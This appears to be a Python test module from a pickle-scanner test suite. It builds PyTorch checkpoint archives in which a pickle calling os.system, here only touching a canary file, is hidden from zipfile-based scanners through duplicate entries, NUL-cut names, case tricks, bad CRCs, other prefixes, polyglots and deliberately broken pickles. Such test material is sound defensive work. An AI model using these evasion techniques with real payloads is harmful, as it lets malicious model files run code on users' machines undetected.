"""Zip differentials: torch.save archives that torch's reader and Python's ``zipfile`` read
differently, so a scanner that reads the archive with ``zipfile`` looks at another pickle (or
none) than the one ``torch.load`` runs.

torch reads zips with miniz (``caffe2/serialize/inline_container.cc``): the archive prefix is
the folder of the FIRST central-directory entry, ``<prefix>/data.pkl`` is found by a
case-insensitive binary search over the sorted central directory, names are length-prefixed
(a NUL is an ordinary byte), local header names are skipped unread, and CRCs are not checked.
Python's ``zipfile`` keeps the LAST of duplicate names, cuts names at a NUL, compares names
case-sensitively, and refuses a local name that differs from the central one and a bad CRC.
Sources: picklescan's 2024-2025 security advisories (zip handling), JFrog's "3 zero-day
vulnerabilities in picklescan" (2025: a bad CRC makes the scanner give up, torch loads anyway),
and arXiv 2508.19774 (archive-level differentials between scanners and loaders).
"""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import torch

from tests.crafting import Member, Registry, call, glob, member, proto4, s, touch, torch_members, zip_bytes

REGISTRY = Registry()


class _System:
    """Pickles as ``os.system(cmd)`` (``posix.system`` on Linux)."""

    def __init__(self, cmd: str) -> None:
        self.cmd = cmd

    def __reduce__(self) -> tuple:
        return os.system, (self.cmd,)


SYSTEM = f"{os.system.__module__}.system"


def evil_members(canary: Path, prefix: str = "archive") -> list[Member]:
    """A real torch.save archive (one tensor) whose data.pkl also calls ``os.system``."""
    return torch_members({"fc.weight": torch.zeros(2, 2), "x": _System(touch(canary))}, prefix)


def decoy_pickle() -> bytes:
    """A benign data.pkl over the same storage ``0``: what a zipfile-based scanner is shown."""
    return member(torch_members({"fc.weight": torch.zeros(2, 2)}), "/data.pkl").data


@REGISTRY.add("torch")
def zip_duplicate_data_pkl(path: Path, canary: Path) -> str:
    """Two ``archive/data.pkl`` entries, the malicious one first. Placed after
    ``.format_version`` in the central directory, miniz's binary search lands on the first;
    ``zipfile`` keeps the last, the benign decoy."""
    members = evil_members(canary)
    evil = member(members, "/data.pkl")
    rest = [m for m in members if m is not evil]
    decoy = Member(b"archive/data.pkl", decoy_pickle())
    path.write_bytes(zip_bytes(rest[:1] + [evil, decoy] + rest[1:]))
    return SYSTEM


@REGISTRY.add("torch")
def zip_nul_twin(path: Path, canary: Path) -> str:
    """The malicious ``archive/data.pkl``, then a benign ``archive/data.pkl\\0x``: ``zipfile``
    cuts the twin's name at the NUL, so its ``archive/data.pkl`` is the decoy (the last of the
    two); miniz keeps the NUL and finds the real one."""
    members = evil_members(canary)
    path.write_bytes(zip_bytes(members + [Member(b"archive/data.pkl\0x", decoy_pickle())]))
    return SYSTEM


@REGISTRY.add("torch")
def zip_uppercase_data_pkl(path: Path, canary: Path) -> str:
    """The pickle is stored as ``archive/DATA.PKL`` only: miniz's lookup ignores case,
    ``zipfile`` (and a scanner asking it for ``data.pkl``) does not."""
    members = evil_members(canary)
    member(members, "/data.pkl").name = b"archive/DATA.PKL"
    path.write_bytes(zip_bytes(members))
    return SYSTEM


@REGISTRY.add("torch")
def zip_local_name_mismatch(path: Path, canary: Path) -> str:
    """data.pkl's local header names another file (``archive/notes.txt``): miniz reads the
    central directory only; ``zipfile`` refuses the member ("File name in directory ... and
    header ... differ"), and a scanner that gives up on that error misses the payload."""
    members = evil_members(canary)
    member(members, "/data.pkl").local_name = b"archive/notes.txt"
    path.write_bytes(zip_bytes(members))
    return SYSTEM


@REGISTRY.add("torch")
def zip_bad_crc(path: Path, canary: Path) -> str:
    """data.pkl's CRC-32 is wrong in both headers: torch does not check it, ``zipfile`` raises
    ``BadZipFile: Bad CRC-32`` (JFrog's picklescan CRC zero-day, 2025)."""
    members = evil_members(canary)
    member(members, "/data.pkl").crc = 0xDEADBEEF
    path.write_bytes(zip_bytes(members))
    return SYSTEM


@REGISTRY.add("torch")
def zip_deflated_data_pkl(path: Path, canary: Path) -> str:
    """data.pkl is deflate-compressed (torch.save stores it): miniz inflates it, a scanner
    that reads the member's raw bytes at its offset sees noise."""
    members = evil_members(canary)
    member(members, "/data.pkl").method = 8
    path.write_bytes(zip_bytes(members))
    return SYSTEM


@REGISTRY.add("torch")
def zip_other_prefix(path: Path, canary: Path) -> str:
    """The archive's folder is ``model/`` rather than ``archive/``: torch takes the prefix from
    the first entry's folder, a scanner that asks for ``archive/data.pkl`` finds nothing."""
    path.write_bytes(zip_bytes(evil_members(canary, prefix="model")))
    return SYSTEM


@REGISTRY.add("torch")
def pickle_zip_polyglot(path: Path, canary: Path) -> str:
    """A pickle followed by a benign torch zip: torch's ``_is_zipfile`` checks only the first 4
    bytes (``PK\\x03\\x04``), so ``torch.load`` takes the legacy path and unpickles the leading
    pickle; ``zipfile.is_zipfile`` finds the end-of-central-directory record and sees a clean
    archive (the zip's offsets are relative to its own start, as in a self-extracting file)."""
    lead = proto4(call(glob("posix", "system"), s(touch(canary))) + b".")
    benign = torch_members({"fc.weight": torch.zeros(2, 2)})
    path.write_bytes(lead + zip_bytes(benign))
    return "posix.system"


@REGISTRY.add("torch")
def zip_nullifai_broken_data_pkl(path: Path, canary: Path) -> str:
    """nullifAI (ReversingLabs, 2025) in a torch zip: data.pkl runs its payload, then hits an
    invalid opcode; ``torch.load`` raises, after the payload ran. A scanner that drops a pickle
    it cannot parse to the end reports nothing."""
    members = evil_members(canary)
    pkl = member(members, "/data.pkl")
    payload = pickle.dumps(_System(touch(canary)), protocol=2)[:-1]  # no STOP
    pkl.data = payload + b"\xff"  # no such opcode
    path.write_bytes(zip_bytes(members))
    return SYSTEM
